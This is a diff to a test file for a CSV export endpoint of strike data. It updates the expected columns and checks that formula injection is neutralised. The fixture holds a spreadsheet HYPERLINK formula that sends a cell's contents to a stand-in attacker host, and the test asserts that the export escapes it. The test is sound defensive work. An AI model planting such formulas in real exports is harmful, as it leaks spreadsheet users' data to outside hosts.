@@ -17,8 +17,8 @@ describe('GET /api/strikes?format=csv', () => {
     const response = await fx.app.request('/api/strikes?format=csv');
     expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
     const [header, ...rows] = parse(await response.text()) as string[][];
-    expect(header).toEqual(['date', 'country', 'place_text', 'place', 'lat', 'lon', 'strikes', 'source']);
-    expect(rows.map((r) => [r[2], r[5], r[6]])).toEqual([[`'=HYPERLINK("http://evil.example/?x="&A1,"click")`, '', '1'], ['Mosul', '43.11889', '2']]);
+    expect(header).toEqual(['date', 'reported_on', 'date_basis', 'country', 'place_text', 'place_name', 'place_key', 'lat', 'lon', 'strikes', 'engagements', 'source']);
+    expect(rows.map((r) => [r[4], r[8], r[9]])).toEqual([[`'=HYPERLINK("http://evil.example/?x="&A1,"click")`, '', '1'], ['Mosul', '43.11889', '2']]);
     for (const value of rows.flat()) expect(value).not.toMatch(/^[=+\-@\t\r]/);
   });
 });
